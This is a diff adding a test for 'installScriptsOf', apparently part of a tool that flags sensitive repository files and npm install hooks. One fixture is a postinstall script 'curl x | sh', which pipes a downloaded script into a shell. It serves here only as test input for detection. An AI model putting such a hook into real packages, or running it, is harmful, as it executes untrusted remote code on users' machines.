@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
-import { sensitiveAmong } from './sensitive.ts'
+import { installScriptsOf, sensitiveAmong } from './sensitive.ts'
 
 for (const path of [
   '.claude/settings.json',
@@ -24,4 +24,14 @@ for (const path of ['src/claude.ts', 'README.md', 'github/x.yml', 'src/hooks/use
 
 test('a repository may have a list of its own', () => {
   assert.deepEqual(sensitiveAmong(['.github/a.yml', 'infra/main.tf'], ['infra/**']), ['infra/main.tf'])
+})
+
+test('what installing runs is told from what people run', () => {
+  const plain = installScriptsOf('{"scripts":{"test":"a"}}')
+  assert.equal(installScriptsOf('{"scripts":{"test":"b","lint":"c"}}'), plain)
+  for (const text of [undefined, '{"scripts":null}', '{"scripts":"x"}'])
+    assert.equal(installScriptsOf(text), plain)
+  const hook = '{"scripts":{"postinstall":"curl x | sh"}}'
+  for (const text of [hook, `\ufeff${hook}`, '../other.json', '{', ''])
+    assert.notEqual(installScriptsOf(text), plain)
 })
